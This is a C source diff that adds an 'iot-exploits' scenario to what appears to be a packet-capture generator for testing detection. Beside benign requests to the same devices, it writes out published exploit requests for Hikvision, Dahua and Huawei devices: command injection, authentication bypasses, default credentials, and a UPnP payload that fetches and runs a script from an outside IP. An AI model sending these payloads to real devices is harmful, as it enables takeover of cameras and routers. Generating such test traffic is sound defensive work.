@@ -277,10 +277,101 @@ static bool run_devices(struct gen *g)
     return true;
 }
 
+/* ---- iot-exploits ---- */
+
+/* An HTTP request with a body from the outside to a device, and its reply. */
+static uint64_t http_to_device(struct gen *g, int iface, uint64_t t, const char *from, uint16_t cport,
+                               const uint8_t smac[6], const char *server, uint16_t sport, const char *method,
+                               const char *uri, const char *extra_headers, const char *body, const char *reply)
+{
+    char req[2048];
+    snprintf(req, sizeof req, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: python-requests/2.25.1\r\n%s"
+             "Content-Length: %zu\r\n\r\n%s", method, uri, server, extra_headers, strlen(body), body);
+    return tcp_exchange(g, iface, t, mac_router, from, smac, server, cport, sport, req, reply);
+}
+
+static const char ok_xml[] = "HTTP/1.1 200 OK\r\nServer: App-webs/\r\nContent-Type: application/xml\r\n"
+                             "Content-Length: 0\r\n\r\n";
+static const char ok_json[] = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n";
+
+static const char dahua_login_fmt[] =
+    "{\"method\":\"global.login\",\"params\":{\"userName\":\"admin\",\"password\":\"%s\","
+    "\"clientType\":\"%s\",\"loginType\":\"%s\",\"authorityType\":\"Default\",\"passwordType\":\"%s\"},"
+    "\"id\":1,\"session\":0}";
+
+static const char huawei_upgrade_fmt[] =
+    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
+    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade "
+    "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>%s</NewStatusURL>"
+    "<NewDownloadURL>%s</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
+
+static bool run_iot_exploits(struct gen *g)
+{
+    int iface = add_ethernet_iface(g, 65535);
+    uint64_t t = GEN_BASE_TIME_US;
+    const char *attacker = "185.220.101.7", *admin = "192.168.50.40";
+    char body[1024];
+    /* CVE-2021-36260, then the same endpoint used as intended. */
+    http_to_device(g, iface, t, attacker, 40001, mac_hik_cam, "192.168.50.20", 80, "PUT", "/SDK/webLanguage", "",
+                   "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>", ok_xml);
+    http_to_device(g, iface, t + SEC(1), admin, 40002, mac_hik_cam, "192.168.50.20", 80, "PUT", "/SDK/webLanguage",
+                   "", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>English</language>", ok_xml);
+    /* CVE-2017-7921 (the classic PoC and a randomised password), then a normal request. */
+    http_to_device(g, iface, t + SEC(2), attacker, 40003, mac_hik_cam, "192.168.50.20", 80, "GET",
+                   "/Security/users?auth=YWRtaW46MTEK", "", "", ok_xml);
+    http_to_device(g, iface, t + SEC(3), attacker, 40004, mac_hik_cam, "192.168.50.20", 80, "GET",
+                   "/System/configurationFile?auth=YWRtaW46cXdlcnR5", "", "", ok_xml);
+    http_to_device(g, iface, t + SEC(4), admin, 40005, mac_hik_cam, "192.168.50.20", 80, "GET",
+                   "/System/deviceInfo", "", "", ok_xml);
+    /* CVE-2021-33044 and CVE-2021-33045, then a normal web login. */
+    snprintf(body, sizeof body, dahua_login_fmt, "Not Used", "NetKeyboard", "Direct", "Default");
+    http_to_device(g, iface, t + SEC(5), attacker, 40006, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
+                   "Content-Type: application/json\r\n", body, ok_json);
+    snprintf(body, sizeof body, dahua_login_fmt, "admin", "Local", "Loopback", "Plain");
+    http_to_device(g, iface, t + SEC(6), attacker, 40007, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
+                   "Content-Type: application/json\r\n", body, ok_json);
+    snprintf(body, sizeof body, dahua_login_fmt, "5D7C0A3B", "Web3.0", "Direct", "Default");
+    http_to_device(g, iface, t + SEC(7), admin, 40008, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
+                   "Content-Type: application/json\r\n", body, ok_json);
+    /* CVE-2017-17215 on the router's UPnP port, then a harmless upgrade call. */
+    snprintf(body, sizeof body, huawei_upgrade_fmt, "$(/bin/busybox wget -g 185.220.101.7 -l /tmp/x -r /x; sh /tmp/x)",
+             "$(echo HUAWEIUPNP)");
+    http_to_device(g, iface, t + SEC(8), attacker, 40009, mac_router, "192.168.50.1", 37215, "POST",
+                   "/ctrlt/DeviceUpgrade_1",
+                   "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", "
+                   "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\"\r\n",
+                   body, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+    snprintf(body, sizeof body, huawei_upgrade_fmt, "http://192.168.50.1/status", "http://192.168.50.1/fw.bin");
+    http_to_device(g, iface, t + SEC(9), admin, 40010, mac_router, "192.168.50.1", 37215, "POST",
+                   "/ctrlt/DeviceUpgrade_1", "", body, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+    /* Factory credentials over HTTP, RTSP and telnet; then other credentials. */
+    http_to_device(g, iface, t + SEC(10), attacker, 40011, mac_hik_cam, "192.168.50.20", 80, "GET",
+                   "/ISAPI/System/deviceInfo", "Authorization: Basic YWRtaW46MTIzNDU=\r\n", "", ok_xml);
+    http_to_device(g, iface, t + SEC(11), admin, 40012, mac_hik_cam, "192.168.50.20", 80, "GET",
+                   "/ISAPI/System/deviceInfo", "Authorization: Basic b3BlcmF0b3I6UzNjdXJlIVBhc3M=\r\n", "", ok_xml);
+    tcp_exchange(g, iface, t + SEC(12), mac_router, attacker, mac_dahua_cam, "192.168.50.21", 40013, 554,
+                 "DESCRIBE rtsp://192.168.50.21/cam/realmonitor RTSP/1.0\r\nCSeq: 2\r\n"
+                 "Authorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
+                 "RTSP/1.0 200 OK\r\nCSeq: 2\r\nServer: Rtsp Server/3.0\r\n\r\n");
+    tcp_exchange(g, iface, t + SEC(13), mac_pc, admin, mac_dahua_cam, "192.168.50.21", 40014, 554,
+                 "DESCRIBE rtsp://192.168.50.21/cam/realmonitor RTSP/1.0\r\nCSeq: 2\r\n"
+                 "Authorization: Basic b3BlcmF0b3I6UzNjdXJlIVBhc3M=\r\n\r\n",
+                 "RTSP/1.0 200 OK\r\nCSeq: 2\r\nServer: Rtsp Server/3.0\r\n\r\n");
+    tcp_exchange(g, iface, t + SEC(14), mac_router, attacker, mac_hik_nvr, "192.168.50.30", 40015, 23,
+                 "root\r\nxc3511\r\n", "\r\n192.0.0.64 login: ");
+    tcp_exchange(g, iface, t + SEC(15), mac_pc, admin, mac_hik_nvr, "192.168.50.30", 40016, 23,
+                 "operator\r\nS3cure!Pass\r\n", "\r\n192.0.0.64 login: ");
+    return true;
+}
+
 static const struct scenario device_scenarios[] = {
     {"devices", "cameras, a recorder, a router and PCs on one segment: ARP, DHCP, mDNS, NetBIOS, SSDP, RTSP, "
                 "HTTP and telnet banners; a camera calling out, one calling NTP, a recorder reached from outside",
      false, run_devices},
+    {"iot-exploits", "the published requests of CVE-2021-36260, CVE-2017-7921, CVE-2021-33044, CVE-2021-33045, "
+                     "CVE-2017-17215 and factory-credential logins (HTTP, RTSP, telnet), each beside a benign "
+                     "request to the same device",
+     false, run_iot_exploits},
 };
 
 const struct scenario *device_scenario_at(size_t i)
